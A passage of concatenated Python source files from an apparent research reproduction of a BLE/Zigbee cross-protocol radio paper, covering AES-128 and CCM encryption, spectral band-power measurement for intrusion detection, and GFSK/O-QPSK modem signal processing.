        expected = _cbc_mac(cipher, nonce, plaintext, aad, mic_length)
    else:
        plaintext = body
        expected = _cbc_mac(cipher, nonce, b"", aad + plaintext, mic_length)
    if mic_length:
        stream0 = _ctr_blocks(cipher, nonce, 1)
        expected = bytes(a ^ b for a, b in zip(expected, stream0))
        if expected != received_mic:
            raise CcmError("MIC verification failed")
    return plaintext
