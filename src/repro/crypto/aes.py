"""AES-128 block cipher (FIPS-197), pure Python.

Only the forward cipher is implemented: every mode used in this project
(CCM = CTR + CBC-MAC) needs encryption only.  The implementation follows
the specification structure (SubBytes / ShiftRows / MixColumns /
AddRoundKey over a column-major 4×4 state); it favours auditability over
speed, which is fine at simulation scale (a few blocks per frame).

Validated against the FIPS-197 Appendix B/C vectors in
``tests/crypto/test_aes.py``.
"""

from __future__ import annotations

from typing import List, Sequence

__all__ = ["Aes128"]


def _build_sbox() -> bytes:
    """Generate the S-box from the field inverse + affine map (FIPS-197 §5.1.1)."""
    # Multiplicative inverse table via exp/log over GF(2^8) with generator 3.
    exp = [0] * 512
    log = [0] * 256
    x = 1
    for i in range(255):
        exp[i] = x
        log[x] = i
        # multiply by generator 0x03 = x * 2 ^ x
        x ^= (x << 1) ^ (0x11B if x & 0x80 else 0)
        x &= 0xFF
    for i in range(255, 512):
        exp[i] = exp[i - 255]

    sbox = bytearray(256)
    for value in range(256):
        inv = 0 if value == 0 else exp[255 - log[value]]
        result = 0x63
        for shift in range(5):
            result ^= ((inv << shift) | (inv >> (8 - shift))) & 0xFF
        sbox[value] = result
    return bytes(sbox)


_SBOX = _build_sbox()
_RCON = [0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36]


def _xtime(value: int) -> int:
    """Multiply by x in GF(2^8)."""
    value <<= 1
    if value & 0x100:
        value ^= 0x11B
    return value & 0xFF


class Aes128:
    """AES with a 128-bit key.

    >>> cipher = Aes128(bytes(range(16)))
    >>> len(cipher.encrypt_block(bytes(16)))
    16
    """

    BLOCK_SIZE = 16

    def __init__(self, key: bytes):
        if len(key) != 16:
            raise ValueError("AES-128 requires a 16-byte key")
        self._round_keys = self._expand_key(bytes(key))

    # -- key schedule -------------------------------------------------------
    @staticmethod
    def _expand_key(key: bytes) -> List[bytes]:
        words: List[bytes] = [key[i : i + 4] for i in range(0, 16, 4)]
        for i in range(4, 44):
            temp = words[i - 1]
            if i % 4 == 0:
                rotated = temp[1:] + temp[:1]
                temp = bytes(_SBOX[b] for b in rotated)
                temp = bytes([temp[0] ^ _RCON[i // 4 - 1]]) + temp[1:]
            words.append(bytes(a ^ b for a, b in zip(words[i - 4], temp)))
        return [b"".join(words[4 * r : 4 * r + 4]) for r in range(11)]

    # -- rounds ------------------------------------------------------------
    @staticmethod
    def _sub_bytes(state: bytearray) -> None:
        for i in range(16):
            state[i] = _SBOX[state[i]]

    @staticmethod
    def _shift_rows(state: bytearray) -> None:
        # State is column-major: byte r + 4c.  Row r rotates left by r.
        for row in range(1, 4):
            values = [state[row + 4 * col] for col in range(4)]
            for col in range(4):
                state[row + 4 * col] = values[(col + row) % 4]

    @staticmethod
    def _mix_columns(state: bytearray) -> None:
        for col in range(4):
            a = state[4 * col : 4 * col + 4]
            doubled = [_xtime(v) for v in a]
            state[4 * col + 0] = doubled[0] ^ a[1] ^ doubled[1] ^ a[2] ^ a[3]
            state[4 * col + 1] = a[0] ^ doubled[1] ^ a[2] ^ doubled[2] ^ a[3]
            state[4 * col + 2] = a[0] ^ a[1] ^ doubled[2] ^ a[3] ^ doubled[3]
            state[4 * col + 3] = a[0] ^ doubled[0] ^ a[1] ^ a[2] ^ doubled[3]

    def _add_round_key(self, state: bytearray, round_index: int) -> None:
        key = self._round_keys[round_index]
        for i in range(16):
            state[i] ^= key[i]

    # -- public ---------------------------------------------------------------
    def encrypt_block(self, block: bytes) -> bytes:
        if len(block) != self.BLOCK_SIZE:
            raise ValueError("AES block must be 16 bytes")
        state = bytearray(block)
        self._add_round_key(state, 0)
        for round_index in range(1, 10):
            self._sub_bytes(state)
            self._shift_rows(state)
            self._mix_columns(state)
            self._add_round_key(state, round_index)
        self._sub_bytes(state)
        self._shift_rows(state)
        self._add_round_key(state, 10)
        return bytes(state)
