"""Cryptographic substrate for the §VII counter-measures.

The paper's main mitigation is the link-layer security most 802.15.4 stacks
provide ("cryptographic techniques, that most of the 802.15.4-based
protocols provide, should be systematically used").  Nothing in the Python
standard library provides AES, so this package implements it from scratch:

* :mod:`repro.crypto.aes` — AES-128 block cipher (FIPS-197), validated
  against the specification's test vectors;
* :mod:`repro.crypto.ccm` — CCM / CCM* authenticated encryption (RFC 3610 /
  IEEE 802.15.4 Annex B), validated against an RFC 3610 test vector.

:mod:`repro.dot15d4.security` builds the 802.15.4 security layer on top.
"""

from repro.crypto.aes import Aes128
from repro.crypto.ccm import CcmError, ccm_decrypt, ccm_encrypt

__all__ = ["Aes128", "ccm_encrypt", "ccm_decrypt", "CcmError"]
