"""Spectral analysis helpers.

Used by the intrusion-detection counter-measure (§VII of the paper): the
RadIoT-style monitor watches signal strength across frequency bands without
demodulating anything, so it only needs PSD estimation and band-power
integration.
"""

from __future__ import annotations

from typing import Tuple

import numpy as np
from scipy import signal as sp_signal

from repro.dsp.signal import IQSignal

__all__ = ["power_spectral_density", "band_power", "channel_powers"]


def power_spectral_density(
    sig: IQSignal, nperseg: int = 256
) -> Tuple[np.ndarray, np.ndarray]:
    """Welch PSD of a complex baseband capture.

    Returns ``(frequencies_hz, psd)`` with frequencies expressed at RF
    (centre frequency added back) and sorted ascending.
    """
    if len(sig) < 8:
        raise ValueError("capture too short for PSD estimation")
    nperseg = min(nperseg, len(sig))
    freqs, psd = sp_signal.welch(
        sig.samples,
        fs=sig.sample_rate,
        nperseg=nperseg,
        return_onesided=False,
        detrend=False,
    )
    order = np.argsort(freqs)
    return freqs[order] + sig.center_frequency, psd[order]


def band_power(
    sig: IQSignal, rf_center_hz: float, bandwidth_hz: float, nperseg: int = 256
) -> float:
    """Integrated power inside an RF band of the given width."""
    freqs, psd = power_spectral_density(sig, nperseg=nperseg)
    low = rf_center_hz - bandwidth_hz / 2.0
    high = rf_center_hz + bandwidth_hz / 2.0
    mask = (freqs >= low) & (freqs <= high)
    if not mask.any():
        return 0.0
    return float(np.trapezoid(psd[mask], freqs[mask]))


def channel_powers(
    sig: IQSignal, centers_hz, bandwidth_hz: float, nperseg: int = 256
) -> np.ndarray:
    """Band power for a list of channel centres (one PSD, many integrals)."""
    freqs, psd = power_spectral_density(sig, nperseg=nperseg)
    out = np.zeros(len(centers_hz))
    for i, center in enumerate(centers_hz):
        mask = (freqs >= center - bandwidth_hz / 2.0) & (
            freqs <= center + bandwidth_hz / 2.0
        )
        if mask.any():
            out[i] = float(np.trapezoid(psd[mask], freqs[mask]))
    return out
