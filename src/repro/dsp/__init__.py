"""Complex-baseband signal processing substrate.

Everything the paper says about waveforms happens here:

* :mod:`repro.dsp.signal` — the :class:`IQSignal` container (complex
  baseband samples + sample rate + RF centre frequency).
* :mod:`repro.dsp.filters` — Gaussian pulse shaping (GFSK), half-sine pulses
  (O-QPSK) and generic FIR low-pass filters.
* :mod:`repro.dsp.gfsk` — the (G)FSK/MSK modulator and the
  quadrature-discriminator demodulator used by the BLE chip models.
* :mod:`repro.dsp.oqpsk` — the 802.15.4 O-QPSK-with-half-sine modulator and
  the MSK-domain chip demodulator used by the Zigbee radio models.
* :mod:`repro.dsp.impairments` — AWGN, carrier-frequency offset, phase
  rotation, timing offset.
* :mod:`repro.dsp.spectrum` — PSD estimation and band-power measurement for
  the intrusion-detection counter-measure (§VII).
"""

from repro.dsp.signal import IQSignal
from repro.dsp.gfsk import FskDemodulator, FskModulator, GfskConfig
from repro.dsp.oqpsk import OqpskDemodulator, OqpskModulator

__all__ = [
    "IQSignal",
    "GfskConfig",
    "FskModulator",
    "FskDemodulator",
    "OqpskModulator",
    "OqpskDemodulator",
]
