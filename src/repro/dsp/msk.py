"""Chip-domain ↔ MSK-transition-domain conversions.

An O-QPSK signal with half-sine pulse shaping *is* an MSK signal: during
every chip period the carrier phase rotates by exactly ±π/2.  An FSK
demodulator therefore sees one bit per chip period — the *rotation
direction*.  Writing ``c_i ∈ {0, 1}`` for the chips and ``t_i`` for the
rotation during chip period ``i`` (1 = counter-clockwise, +π/2), a direct
derivation from the I/Q pulse trains gives the memoryless relation

    ``t_i = c_i XOR c_{i-1} XOR (i mod 2)``

where ``i`` is the chip's *absolute* index in the stream (802.15.4 puts even
chips on I and odd chips on Q — the parity term comes from that alternation).

This module implements the relation and its inverse.  It is the
physics-exact, stream-wide counterpart of the paper's per-symbol Algorithm 1
(see :mod:`repro.core.tables`); the two agree on every transition whose
predecessor chip is inside the sequence (Algorithm 1 additionally assumes the
phase state preceding the sequence, which only affects its first output bit).
"""

from __future__ import annotations

from typing import Optional

import numpy as np

from repro.utils.bits import as_bit_array

__all__ = ["chips_to_transitions", "transitions_to_chips"]


def chips_to_transitions(
    chips,
    start_index: int = 0,
    previous_chip: Optional[int] = None,
) -> np.ndarray:
    """Convert a chip stream into MSK rotation bits.

    Parameters
    ----------
    chips:
        The chip values ``c_0 .. c_{N-1}``.
    start_index:
        Absolute stream index of ``chips[0]`` (determines I/Q parity).
    previous_chip:
        The chip that precedes ``chips[0]`` in the stream, if known.  When
        given, the result has length ``N`` and starts with the transition
        *into* ``chips[0]``; otherwise it has length ``N - 1``.

    Returns
    -------
    ``uint8`` array of rotation bits, 1 = counter-clockwise (+π/2).
    """
    arr = as_bit_array(chips)
    if arr.size == 0:
        return np.zeros(0, dtype=np.uint8)
    if previous_chip is not None:
        arr = np.concatenate([[np.uint8(previous_chip & 1)], arr])
        start_index -= 1
    if arr.size < 2:
        return np.zeros(0, dtype=np.uint8)
    indices = np.arange(start_index + 1, start_index + arr.size)
    parity = (indices % 2).astype(np.uint8)
    return (arr[1:] ^ arr[:-1] ^ parity).astype(np.uint8)


def transitions_to_chips(
    transitions,
    start_index: int,
    previous_chip: int,
) -> np.ndarray:
    """Invert :func:`chips_to_transitions`.

    Parameters
    ----------
    transitions:
        Rotation bits ``t_k`` covering chip periods
        ``start_index .. start_index + N - 1``.
    start_index:
        Absolute stream index of the chip period of ``transitions[0]``.
    previous_chip:
        Value of chip ``start_index - 1``.

    Returns
    -------
    The recovered chips ``c_{start_index} .. c_{start_index + N - 1}``.
    """
    arr = as_bit_array(transitions)
    if arr.size == 0:
        return np.zeros(0, dtype=np.uint8)
    # Unrolling the recurrence c_k = t_k ^ c_{k-1} ^ p_k gives the closed
    # form c_k = previous_chip ^ XOR_{j<=k}(t_j ^ p_j) — a prefix XOR.
    indices = np.arange(start_index, start_index + arr.size)
    parity = (indices & 1).astype(np.uint8)
    chips = np.bitwise_xor.accumulate(arr ^ parity)
    chips ^= np.uint8(previous_chip & 1)
    return chips
