"""Pulse shapes and filters used by the modulators.

* :func:`gaussian_pulse` — the Gaussian frequency pulse that turns FSK into
  GFSK.  BLE mandates BT = 0.5.  The pulse is normalised so that its integral
  is one symbol period, preserving the total per-symbol phase advance of the
  underlying MSK signal (±π/2 at modulation index 0.5).
* :func:`half_sine_pulse` — the O-QPSK chip shape mandated by IEEE 802.15.4
  (§12.2.6 of the 2015 revision).
* :func:`fir_lowpass` — channel-selection filtering for receivers, built on
  :func:`scipy.signal.firwin`.
"""

from __future__ import annotations

import numpy as np
from scipy import signal as sp_signal

__all__ = [
    "gaussian_pulse",
    "half_sine_pulse",
    "fir_lowpass",
    "rectangular_pulse",
]


def gaussian_pulse(
    bt: float, samples_per_symbol: int, span_symbols: int = 3
) -> np.ndarray:
    """Gaussian frequency-shaping pulse.

    Parameters
    ----------
    bt:
        Bandwidth-time product (0.5 for BLE).
    samples_per_symbol:
        Oversampling factor.
    span_symbols:
        Total length of the truncated pulse in symbol periods.

    Returns
    -------
    The pulse, normalised so ``sum(pulse) == samples_per_symbol`` — i.e. a
    rectangular NRZ bit convolved with it accumulates exactly one symbol's
    worth of frequency-time area, keeping the per-symbol phase advance equal
    to the unfiltered MSK value.
    """
    if bt <= 0:
        raise ValueError("BT product must be positive")
    if samples_per_symbol < 1:
        raise ValueError("samples_per_symbol must be >= 1")
    if span_symbols < 1:
        raise ValueError("span_symbols must be >= 1")
    n = span_symbols * samples_per_symbol
    # Time axis in symbol periods, centred on zero.
    t = (np.arange(n) - (n - 1) / 2.0) / samples_per_symbol
    # Standard GMSK Gaussian pulse: h(t) = sqrt(2*pi/ln2) * BT * exp(...)
    alpha = np.sqrt(2.0 * np.pi / np.log(2.0)) * bt
    pulse = alpha * np.exp(-2.0 * (np.pi ** 2) * (bt ** 2) * (t ** 2) / np.log(2.0))
    return pulse * (samples_per_symbol / pulse.sum())


def rectangular_pulse(samples_per_symbol: int) -> np.ndarray:
    """Unfiltered NRZ pulse (plain FSK / MSK)."""
    if samples_per_symbol < 1:
        raise ValueError("samples_per_symbol must be >= 1")
    return np.ones(samples_per_symbol)


def half_sine_pulse(samples_per_chip: int) -> np.ndarray:
    """Half-sine chip pulse of duration 2·Tc (one O-QPSK symbol period).

    802.15.4 O-QPSK shapes each chip as ``sin(pi * t / (2 Tc))`` for
    ``0 <= t <= 2 Tc``.
    """
    if samples_per_chip < 1:
        raise ValueError("samples_per_chip must be >= 1")
    n = 2 * samples_per_chip
    t = np.arange(n)
    return np.sin(np.pi * t / n)


def fir_lowpass(
    cutoff_hz: float, sample_rate: float, num_taps: int = 65
) -> np.ndarray:
    """Linear-phase FIR low-pass filter taps.

    Used by receiver front-ends for channel selection: a 2 MHz-wide BLE or
    Zigbee channel at 16 Msps wants a ~1.2 MHz cutoff.
    """
    if not 0 < cutoff_hz < sample_rate / 2:
        raise ValueError(
            f"cutoff {cutoff_hz} Hz outside (0, Nyquist={sample_rate / 2}) range"
        )
    if num_taps < 3:
        raise ValueError("num_taps must be >= 3")
    return sp_signal.firwin(num_taps, cutoff_hz, fs=sample_rate)


def apply_filter(taps: np.ndarray, samples: np.ndarray) -> np.ndarray:
    """Filter *samples* with group-delay compensation.

    Convolves with *taps* in 'full' mode, then trims so the output aligns
    with the input (assumes linear-phase, odd-length taps).
    """
    delay = (len(taps) - 1) // 2
    out = np.convolve(samples, taps, mode="full")
    return out[delay : delay + samples.size]
