"""(G)FSK / (G)MSK modulator and demodulator.

This is the modem inside every BLE chip model.  The modulator implements
continuous-phase 2-FSK with optional Gaussian frequency-pulse shaping:

* modulation index ``h`` — BLE allows 0.45..0.55, nominal 0.5 (which makes
  the waveform GMSK, the fact WazaBee exploits);
* BT product — BLE mandates 0.5; ``bt=None`` disables the filter and yields
  plain MSK, useful for isolating the Gaussian-approximation error in
  ablation experiments.

The demodulator is a quadrature discriminator (phase of the one-sample lag
product) followed by per-symbol integrate-and-dump, with sync-word
correlation for packet/timing acquisition and a DC-offset estimate to absorb
carrier frequency offsets.  This mirrors how low-cost BLE receivers actually
work, and — crucially for the paper — it happily demodulates any MSK-family
waveform, including 802.15.4's O-QPSK with half-sine shaping.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Callable, Dict, Optional, Tuple, Union

import numpy as np

from scipy import fft as sp_fft

from repro.dsp.filters import gaussian_pulse, rectangular_pulse
from repro.dsp.signal import IQSignal
from repro.utils.bits import as_bit_array

__all__ = [
    "GfskConfig",
    "FskModulator",
    "FskDemodulator",
    "SyncResult",
    "WaveformCache",
    "waveform_cache",
    "clear_waveform_caches",
    "lazy_capture_power",
    "FFT_SYNC_MIN_PRODUCT",
]


@dataclass(frozen=True)
class GfskConfig:
    """Static modem parameters.

    ``samples_per_symbol`` trades fidelity for speed; 8 keeps the Gaussian
    ISI visible while letting Table III (6400 packets) run in seconds.
    """

    samples_per_symbol: int = 8
    modulation_index: float = 0.5
    bt: Optional[float] = 0.5
    span_symbols: int = 3

    def __post_init__(self) -> None:
        if self.samples_per_symbol < 2:
            raise ValueError("samples_per_symbol must be >= 2")
        if not 0.1 <= self.modulation_index <= 2.0:
            raise ValueError("modulation_index out of sane range")
        if self.bt is not None and self.bt <= 0:
            raise ValueError("bt must be positive or None")


class WaveformCache:
    """Precomputed phase-stitched IQ segments for one (config, rate) modem.

    The MSK-family waveform is structurally repetitive: with a shaping
    pulse spanning ``S`` symbol periods, the frequency trajectory inside
    any one symbol period depends only on the ``S``-bit n-gram ending at
    that symbol.  There are therefore at most ``2**S`` distinct IQ
    segments (up to a carrier-phase rotation), which this cache
    precomputes once per :class:`GfskConfig`:

    * ``_segments[p]`` — the ``samples_per_symbol`` IQ samples of n-gram
      ``p``, synthesised from phase 0 at the segment start;
    * ``_increments[p]`` — the total phase advance across the segment.

    A frame is then synthesised by indexing segments with the sliding
    n-gram of the bit stream and rotating each one by the running phase —
    one complex exponential per *symbol* instead of per *sample* (the
    convolve → cumsum → ``exp`` chain of the direct modulator).  The
    pulse head and tail (where the n-gram is truncated by the stream
    edges) are the only parts still synthesised directly.

    Agreement with :meth:`FskModulator.modulate_direct` is within normal
    floating-point reassociation error (≤1e-9, property-tested), because
    both paths sum the very same per-sample phase contributions, merely
    in a different order.
    """

    def __init__(self, config: GfskConfig, symbol_rate: float):
        self.config = config
        self.symbol_rate = symbol_rate
        self.sample_rate = symbol_rate * config.samples_per_symbol
        sps = config.samples_per_symbol
        if config.bt is None:
            pulse = rectangular_pulse(sps)
        else:
            pulse = gaussian_pulse(config.bt, sps, config.span_symbols)
        if len(pulse) % sps != 0:
            raise ValueError(
                "pulse length must be a whole number of symbol periods"
            )
        self._pulse = pulse
        #: Symbols of bit context one output symbol period depends on.
        self.span = len(pulse) // sps
        deviation = config.modulation_index * symbol_rate / 2.0
        self._dphi_scale = 2.0 * np.pi * deviation / self.sample_rate
        # pulse sliced per contributing-symbol offset: slice d is the part
        # of the pulse a bit emitted d symbol periods ago contributes to
        # the current period.
        slices = [pulse[d * sps : (d + 1) * sps] for d in range(self.span)]

        def block(pattern: int, active, length: int):
            """(segment, phase increment) of one symbol period.

            *active* lists the slice offsets ``d`` with a live bit; bit
            ``d`` of *pattern* is that bit's value.  Offsets outside
            *active* are stream edges and contribute nothing.
            """
            freq = np.zeros(length)
            for d in active:
                nrz = 2.0 * ((pattern >> d) & 1) - 1.0
                freq += nrz * slices[d][:length]
            cum = np.cumsum(self._dphi_scale * freq)
            inc = float(cum[-1]) if length else 0.0
            return np.exp(1j * cum), inc

        span = self.span
        # Interior periods: all `span` context bits live.
        self._segments = np.empty((1 << span, sps), dtype=np.complex128)
        self._increments = np.empty(1 << span)
        for p in range(1 << span):
            self._segments[p], self._increments[p] = block(p, range(span), sps)
        # Head period k (k < span-1) sees bits d = 0..k only; the index is
        # the low k+1 bits of the stream prefix.  Tail period n+t sees bits
        # d = t+1..span-1 (offsets into the stream suffix); the final tail
        # period is one sample short (the `full`-convolution layout).
        self._head = []
        for k in range(span - 1):
            segs = np.empty((1 << (k + 1), sps), dtype=np.complex128)
            incs = np.empty(1 << (k + 1))
            for p in range(1 << (k + 1)):
                segs[p], incs[p] = block(p, range(k + 1), sps)
            self._head.append((segs, incs))
        self._tail = []
        for t in range(span):
            length = sps if t < span - 1 else sps - 1
            active = range(t + 1, span)
            width = span - 1 - t
            segs = np.empty((1 << width, length), dtype=np.complex128)
            incs = np.empty(1 << width)
            for q in range(1 << width):
                # q packs the live bits: bit (d - t - 1) of q is offset d.
                pattern = q << (t + 1)
                segs[q], incs[q] = block(pattern, active, length)
            self._tail.append((segs, incs))

    def synthesize(self, bits, initial_phase: float = 0.0) -> np.ndarray:
        """Complex-baseband samples for *bits* (cache-stitched fast path).

        Output is sample-for-sample the modulator's ``full``-convolution
        layout: ``len(bits) * sps + pulse_len - 1`` samples.
        """
        arr = as_bit_array(bits)
        sps = self.config.samples_per_symbol
        span = self.span
        n = int(arr.size)
        if n < span:
            raise ValueError("bit sequence shorter than the pulse span")
        total_len = n * sps + len(self._pulse) - 1
        out = np.empty(total_len, dtype=np.complex128)
        # Sliding n-gram index: idx[i] covers bits i..i+span-1, i.e. the
        # interior period k = i + span - 1; most recent bit in the low bit.
        wide = arr.astype(np.int64)
        idx = wide[span - 1 :].copy()
        for d in range(1, span):
            idx += wide[span - 1 - d : n - d] << d
        num_interior = idx.size
        num_blocks = num_interior + (span - 1) + span
        # Phase increment of every period in stream order, then the
        # running phase at each period start.
        increments = np.empty(num_blocks)
        head_idx = []
        for k in range(span - 1):
            h = 0
            for d in range(k + 1):
                h |= int(arr[k - d]) << d
            head_idx.append(h)
            increments[k] = self._head[k][1][h]
        np.take(self._increments, idx, out=increments[span - 1 : span - 1 + num_interior])
        tail_idx = []
        for t in range(span):
            q = 0
            for d in range(t + 1, span):
                q |= int(arr[n + t - d]) << (d - t - 1)
            tail_idx.append(q)
            increments[num_interior + span - 1 + t] = self._tail[t][1][q]
        starts = np.empty(num_blocks)
        starts[0] = initial_phase
        np.cumsum(increments[:-1], out=starts[1:])
        starts[1:] += initial_phase
        # Stitch: gather each period's cached segment into the output and
        # rotate it by the running phase — one complex multiply per sample,
        # one cos/sin pair per symbol (instead of per-sample exp/cumsum).
        pos = 0
        for k in range(span - 1):
            seg = self._head[k][0][head_idx[k]]
            out[pos : pos + sps] = seg * np.exp(1j * starts[k])
            pos += sps
        view = out[pos : pos + num_interior * sps].reshape(num_interior, sps)
        np.take(self._segments, idx, axis=0, out=view)
        phases = starts[span - 1 : span - 1 + num_interior]
        rotations = np.empty(num_interior, dtype=np.complex128)
        np.cos(phases, out=rotations.real)
        np.sin(phases, out=rotations.imag)
        view *= rotations[:, None]
        pos += num_interior * sps
        for t in range(span):
            seg = self._tail[t][0][tail_idx[t]]
            phase = starts[num_interior + span - 1 + t]
            out[pos : pos + seg.size] = seg * np.exp(1j * phase)
            pos += seg.size
        return out


#: Process-wide cache registry, keyed by the (frozen, hashable) modem
#: parameters.  Shared so that every layer constructing a short-lived
#: :class:`FskModulator` — chips build one per transmission — reuses the
#: same precomputed segment tables.
_WAVEFORM_CACHES: Dict[Tuple[GfskConfig, float], WaveformCache] = {}


def waveform_cache(config: GfskConfig, symbol_rate: float) -> WaveformCache:
    """The shared :class:`WaveformCache` for *(config, symbol_rate)*."""
    key = (config, symbol_rate)
    cache = _WAVEFORM_CACHES.get(key)
    if cache is None:
        cache = WaveformCache(config, symbol_rate)
        _WAVEFORM_CACHES[key] = cache
    return cache


def clear_waveform_caches() -> None:
    """Drop every cached segment table (test isolation / cold-start runs)."""
    _WAVEFORM_CACHES.clear()


class FskModulator:
    """Continuous-phase FSK modulator.

    Parameters
    ----------
    config:
        Modem parameters.
    symbol_rate:
        Symbols per second (1e6 for LE 1M, 2e6 for LE 2M).
    cache:
        Waveform-synthesis cache.  By default the process-wide shared
        cache for *(config, symbol_rate)* is attached lazily on first
        :meth:`modulate`; pass an explicit :class:`WaveformCache` to
        share a handle across modulators, or ``use_cache=False`` to force
        the direct convolve/cumsum/exp path.
    """

    def __init__(
        self,
        config: GfskConfig,
        symbol_rate: float,
        cache: Optional[WaveformCache] = None,
        use_cache: bool = True,
    ):
        if symbol_rate <= 0:
            raise ValueError("symbol_rate must be positive")
        self.config = config
        self.symbol_rate = symbol_rate
        self.sample_rate = symbol_rate * config.samples_per_symbol
        if config.bt is None:
            self._pulse = rectangular_pulse(config.samples_per_symbol)
        else:
            self._pulse = gaussian_pulse(
                config.bt, config.samples_per_symbol, config.span_symbols
            )
        self._use_cache = use_cache
        self._cache = cache

    @property
    def frequency_deviation(self) -> float:
        """Peak frequency deviation Δf = h / (2·Ts) in hertz."""
        return self.config.modulation_index * self.symbol_rate / 2.0

    def frequency_waveform(self, bits) -> np.ndarray:
        """Instantaneous-frequency trajectory (Hz) for a bit sequence.

        Exposed separately so figures and tests can inspect the shaped
        frequency pulse train directly.
        """
        arr = as_bit_array(bits)
        sps = self.config.samples_per_symbol
        nrz = arr.astype(np.float64) * 2.0 - 1.0
        impulses = np.zeros(arr.size * sps)
        impulses[::sps] = nrz
        shaped = np.convolve(impulses, self._pulse, mode="full")
        return shaped * self.frequency_deviation

    def modulate(self, bits, initial_phase: float = 0.0) -> IQSignal:
        """Modulate *bits* into a complex-baseband :class:`IQSignal`.

        The output includes the Gaussian filter tail, so its length slightly
        exceeds ``len(bits) * samples_per_symbol``.

        Synthesis goes through the phase-stitched :class:`WaveformCache`
        whenever one is attached (the default) and the stream is at least
        one pulse span long; :meth:`modulate_direct` is the cache-free
        reference path.
        """
        if self._use_cache:
            cache = self._cache
            if cache is None:
                cache = self._cache = waveform_cache(
                    self.config, self.symbol_rate
                )
            if as_bit_array(bits).size >= cache.span:
                samples = cache.synthesize(bits, initial_phase=initial_phase)
                return IQSignal(samples, self.sample_rate)
        return self.modulate_direct(bits, initial_phase=initial_phase)

    def warm(self) -> Optional[WaveformCache]:
        """Build (or attach) the waveform cache ahead of the first frame.

        Called by radio configuration paths so cache construction cost is
        paid at setup time, not inside the first transmission.  Returns the
        attached cache, or ``None`` when caching is disabled.
        """
        if not self._use_cache:
            return None
        if self._cache is None:
            self._cache = waveform_cache(self.config, self.symbol_rate)
        return self._cache

    def modulate_direct(self, bits, initial_phase: float = 0.0) -> IQSignal:
        """Cache-free reference synthesis (convolve → cumsum → ``exp``)."""
        freq = self.frequency_waveform(bits)
        # Phase advance per sample: 2π f Δt, accumulated.
        dphi = 2.0 * np.pi * freq / self.sample_rate
        phase = initial_phase + np.cumsum(dphi)
        samples = np.exp(1j * phase)
        return IQSignal(samples, self.sample_rate)

    def group_delay_samples(self) -> int:
        """Delay introduced by the shaping pulse (centre of the pulse)."""
        return (len(self._pulse) - 1) // 2


@dataclass
class SyncResult:
    """Outcome of a sync-word search.

    ``start`` is the discriminator-domain sample index where the sync word's
    first symbol begins; ``score`` is the normalised correlation (1.0 for a
    perfect noiseless match); ``dc_offset`` is the estimated residual
    carrier-frequency offset in hertz.
    """

    start: int
    score: float
    dc_offset: float


#: Floor for the sync correlator's FFT path: below this
#: ``capture_samples × template_samples`` product the time-domain
#: ``np.correlate`` always wins (no transform setup is worth paying).
FFT_SYNC_MIN_PRODUCT = 1 << 21

#: Relative cost of one transform point vs one direct multiply-add in the
#: correlator cost model (three real FFTs plus the spectral product,
#: measured against BLAS-backed ``np.correlate`` on frame-sized captures).
FFT_COST_FACTOR = 20.0

PowerInput = Union[np.ndarray, Callable[[], np.ndarray]]


def lazy_capture_power(sig: IQSignal) -> Callable[[], np.ndarray]:
    """Memoised supplier of the capture's per-sample power profile.

    The |x|² vector feeds :meth:`FskDemodulator.find_sync`'s RSSI gate but
    is only needed once a correlation candidate exists; wrapping it keeps
    sync-less captures free of the extra pass, and re-armed sync searches
    over the same capture share the single materialised array.
    """
    cache: list = []

    def supplier() -> np.ndarray:
        if not cache:
            cache.append(np.abs(sig.samples[:-1]) ** 2)
        return cache[0]

    return supplier


def _correlate_valid(
    haystack: np.ndarray, template: np.ndarray, force: Optional[str] = None
) -> np.ndarray:
    """``np.correlate(haystack, template, mode="valid")``, FFT above a size
    threshold.

    *force* pins the implementation (``"fft"`` / ``"direct"``) for tests
    and benchmarks; the default compares the two cost models (O(N·M)
    multiply-adds vs O(N·log N) transform work).  Both paths return the
    same values up to float rounding (~1e-12 relative).
    """
    if haystack.size < template.size:
        return np.zeros(0)
    n = int(haystack.size)
    n_fft = sp_fft.next_fast_len(n)
    if force is not None:
        use_fft = force == "fft"
    else:
        # Direct costs N·M multiply-adds; the three transforms cost
        # ~FFT_COST_FACTOR·N_fft·log2(N_fft) equivalent operations
        # (calibrated empirically — BLAS-backed np.correlate is far faster
        # per multiply-add than a transform butterfly).  Short templates
        # therefore stay time-domain however long the capture gets.
        direct_cost = n * template.size
        fft_cost = FFT_COST_FACTOR * n_fft * math.log2(n_fft)
        use_fft = (
            direct_cost >= FFT_SYNC_MIN_PRODUCT and direct_cost > fft_cost
        )
    if not use_fft:
        return np.correlate(haystack, template, mode="valid")
    # Cross-correlation via the convolution theorem on real FFTs:
    # corr[k] = Σ_i haystack[k+i]·template[i] = IFFT(FFT(h)·conj(FFT(t))).
    # Zero-padding to a 2/3/5-smooth length sidesteps the slow prime-size
    # FFT cases an arbitrary capture length can land on; the valid region
    # (no circular wraparound) is unaffected.
    full = np.fft.irfft(
        np.fft.rfft(haystack, n_fft) * np.conj(np.fft.rfft(template, n_fft)),
        n_fft,
    )
    return full[: n - template.size + 1]


class FskDemodulator:
    """Quadrature-discriminator FSK demodulator with sync acquisition."""

    def __init__(self, config: GfskConfig, symbol_rate: float):
        if symbol_rate <= 0:
            raise ValueError("symbol_rate must be positive")
        self.config = config
        self.symbol_rate = symbol_rate
        self.sample_rate = symbol_rate * config.samples_per_symbol
        self.frequency_deviation = config.modulation_index * symbol_rate / 2.0

    #: Discriminator limiter: nominal modulation sits at ±1; noise-only
    #: input would otherwise swing to ±(sample_rate / 2·deviation).
    CLIP_LEVEL = 1.5

    # -- front end -------------------------------------------------------
    def discriminate(self, sig: IQSignal) -> np.ndarray:
        """Instantaneous frequency normalised to ±1 at nominal deviation.

        Output is clipped at :data:`CLIP_LEVEL`, like a hardware limiter —
        essential so that noise-only stretches of a capture cannot produce
        arbitrarily large correlation values during sync search.
        """
        if sig.sample_rate != self.sample_rate:
            raise ValueError(
                f"sample rate mismatch: signal {sig.sample_rate}, "
                f"demodulator {self.sample_rate}"
            )
        raw = sig.instantaneous_frequency() / self.frequency_deviation
        return np.clip(raw, -self.CLIP_LEVEL, self.CLIP_LEVEL)

    # -- timing acquisition -------------------------------------------------
    def find_sync(
        self,
        disc: np.ndarray,
        sync_bits,
        threshold: float = 0.45,
        power: Optional[PowerInput] = None,
        search_start: int = 0,
        correlator: Optional[str] = None,
    ) -> Optional[SyncResult]:
        """Search the discriminator output for a sync word.

